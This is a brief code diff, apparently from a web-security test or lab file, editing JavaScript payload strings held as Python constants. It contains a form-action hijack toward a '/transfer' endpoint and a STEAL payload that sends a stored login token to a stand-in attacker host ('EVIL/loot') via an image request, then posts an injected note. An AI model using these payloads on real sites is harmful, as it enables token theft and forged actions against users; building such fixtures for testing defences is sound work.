@@ -11,7 +11,7 @@ const bank = new URLSearchParams(location.search).get("beside");
 document.forms[0].action = bank + "/transfer";
 </script>"""
 
-STEAL = """await fetch(EVIL + "/loot?token=" + localStorage.getItem("token"), { mode: "no-cors" });
+STEAL = """new Image().src = EVIL + "/loot?token=" + localStorage.getItem("token");
 await fetch("/notes", { method: "POST", body: "Give Mallory the keys" });"""
 
 
